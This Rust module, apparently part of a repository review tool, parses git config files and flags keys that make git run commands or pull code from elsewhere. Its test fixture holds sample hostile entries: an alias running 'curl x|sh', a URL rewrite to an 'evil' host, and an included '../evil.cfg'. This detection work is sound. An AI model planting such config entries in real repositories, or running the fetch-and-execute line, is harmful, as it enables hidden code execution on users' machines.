//! Reading git config files the way git does, as far as review needs it:
//! which keys run commands (for the report), and the keys that move where
//! git looks for code: `core.hooksPath`, `include.path`/`includeIf.*.path`,
//! `core.worktree`.

/// One `key = value` with its section, as git names it
/// (`section.subsection.key`; section and key lower-cased).
#[derive(Debug, Clone, PartialEq, Eq)]
pub(super) struct Entry {
    pub section: String,
    pub(crate) subsection: Option<String>,
    pub key: String,
    pub value: String,
}

impl Entry {
    pub(super) fn name(&self) -> String {
        match &self.subsection {
            Some(s) => format!("{}.{s}.{}", self.section, self.key),
            None => format!("{}.{}", self.section, self.key),
        }
    }

    /// Whether git runs this value as a command (or, for `url.*`,
    /// `include*`, `core.hooksPath`, `core.worktree`, takes code or
    /// repositories from elsewhere).
    pub(super) fn runs_command(&self) -> bool {
        let bang = self.value.trim_start().starts_with('!');
        match (self.section.as_str(), self.key.as_str()) {
            ("core", "fsmonitor" | "sshcommand" | "pager" | "editor" | "hookspath" | "askpass" | "gitproxy" | "alternaterefscommand" | "worktree") => true,
            ("credential", "helper") | ("diff", "textconv" | "command") | ("merge", "driver") => true,
            ("filter", "clean" | "smudge" | "process") => true,
            ("alias", _) => bang,
            ("submodule", "update") => bang,
            ("include" | "includeif", "path") => true,
            ("url", "insteadof" | "pushinsteadof") => true,
            ("remote", "uploadpack" | "receivepack") => true,
            ("difftool" | "mergetool", "cmd") | ("trailer", "command" | "cmd") => true,
            ("sequence", "editor") | ("gpg", "program") | ("ssh", "program" | "variant") | ("pager", _) => true,
            ("browser" | "web", "cmd" | "browser") => true,
            _ => false,
        }
    }
}

/// What moves where git looks for code.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub(super) struct Facts {
    pub hooks_path: Option<String>,
    pub(crate) includes: Vec<String>,
    pub worktree: Option<String>,
    pub(crate) worktree_config: bool,
}

pub(super) fn facts(entries: &[Entry]) -> Facts {
    let mut f = Facts::default();
    for e in entries {
        match (e.section.as_str(), e.key.as_str()) {
            ("core", "hookspath") => f.hooks_path = Some(e.value.clone()),
            ("core", "worktree") => f.worktree = Some(e.value.clone()),
            ("include" | "includeif", "path") => f.includes.push(e.value.clone()),
            ("extensions", "worktreeconfig") => f.worktree_config = truthy(&e.value),
            _ => {}
        }
    }
    f
}

fn truthy(v: &str) -> bool {
    matches!(v.to_ascii_lowercase().as_str(), "true" | "yes" | "on" | "1" | "")
}

/// The entries of a config file. Handles what git accepts and a plain
/// line reader would miss: a key on the section's own line, `[a.b]`
/// subsections, quotes, escapes, inline comments, continued lines.
pub(super) fn entries(text: &str) -> Vec<Entry> {
    let mut out = Vec::new();
    let (mut section, mut sub) = (String::new(), None);
    for line in logical_lines(text) {
        let mut rest = line.trim_start();
        if let Some(after) = rest.strip_prefix('[') {
            let Some((head, tail)) = after.split_once(']') else { continue };
            (section, sub) = parse_header(head);
            rest = tail.trim_start();
        }
        if rest.is_empty() || rest.starts_with('#') || rest.starts_with(';') {
            continue;
        }
        let (key, value) = match rest.split_once('=') {
            Some((k, v)) => (k.trim(), parse_value(v)),
            None => (rest.split(['#', ';']).next().unwrap_or("").trim(), "true".to_string()),
        };
        if !key.is_empty() {
            out.push(Entry { section: section.clone(), subsection: sub.clone(), key: key.to_ascii_lowercase(), value });
        }
    }
    out
}

/// Lines joined where one ends in a backslash (git's continuation).
fn logical_lines(text: &str) -> Vec<String> {
    let mut out = Vec::new();
    let mut cur = String::new();
    for raw in text.lines() {
        match raw.strip_suffix('\\') {
            Some(head) if !head.ends_with('\\') => cur.push_str(head),
            _ => {
                cur.push_str(raw);
                out.push(std::mem::take(&mut cur));
            }
        }
    }
    if !cur.is_empty() {
        out.push(cur);
    }
    out
}

fn parse_header(head: &str) -> (String, Option<String>) {
    let head = head.trim();
    if let Some((name, sub)) = head.split_once(char::is_whitespace) {
        let sub = sub.trim().trim_matches('"').replace("\\\"", "\"").replace("\\\\", "\\");
        return (name.to_ascii_lowercase(), Some(sub));
    }
    // The old `[section.subsection]` form (subsection lower-cased by git).
    match head.split_once('.') {
        Some((name, sub)) => (name.to_ascii_lowercase(), Some(sub.to_ascii_lowercase())),
        None => (head.to_ascii_lowercase(), None),
    }
}

fn parse_value(v: &str) -> String {
    let mut out = String::new();
    let mut quoted = false;
    let mut chars = v.trim_start().chars();
    while let Some(c) = chars.next() {
        match c {
            '"' => quoted = !quoted,
            '\\' => match chars.next() {
                Some('n') => out.push('\n'),
                Some('t') => out.push('\t'),
                Some('b') => {
                    out.pop();
                }
                Some(other) => out.push(other),
                None => {}
            },
            '#' | ';' if !quoted => break,
            c => out.push(c),
        }
    }
    if quoted {
        out
    } else {
        out.trim_end().to_string()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn keys_that_run_commands() {
        let text = "[core]\n\tfsmonitor = ./x.sh\n\tbare = false\n[alias]\n\tst = status\n\tboom = !sh -c 'curl x|sh'\n[filter \"lfs\"]\n\tclean = git-lfs clean -- %f\n[url \"https://evil/\"]\n\tinsteadOf = https://github.com/\n[includeIf \"gitdir:/w/\"]\n\tpath = ../evil.cfg\n";
        let names: Vec<String> = entries(text).iter().filter(|e| e.runs_command()).map(Entry::name).collect();
        assert_eq!(names, ["core.fsmonitor", "alias.boom", "filter.lfs.clean", "url.https://evil/.insteadof", "includeif.gitdir:/w/.path"]);
    }

    /// Forms git accepts that a naive reader misses.
    #[test]
    fn hooks_path_in_the_forms_git_accepts() {
        for text in [
            "[core]\n\thooksPath = tools/hooks\n",
            "[CORE] HooksPath = tools/hooks\n",
            "[core]\n\thooksPath = \"tools/hooks\" ; comment\n",
            "[core]\n\thooksPath = tools/\\\nhooks\n",
            "[core]\n\thooksPath = tools/hooks # comment\n",
        ] {
            assert_eq!(facts(&entries(text)).hooks_path.as_deref(), Some("tools/hooks"), "{text:?}");
        }
        let f = facts(&entries("[extensions]\n\tworktreeConfig = true\n[include]\n\tpath = ../x.cfg\n[core]\n\tworktree = ../../../sub\n"));
        assert_eq!(f, Facts { hooks_path: None, includes: vec!["../x.cfg".into()], worktree: Some("../../../sub".into()), worktree_config: true });
    }
}
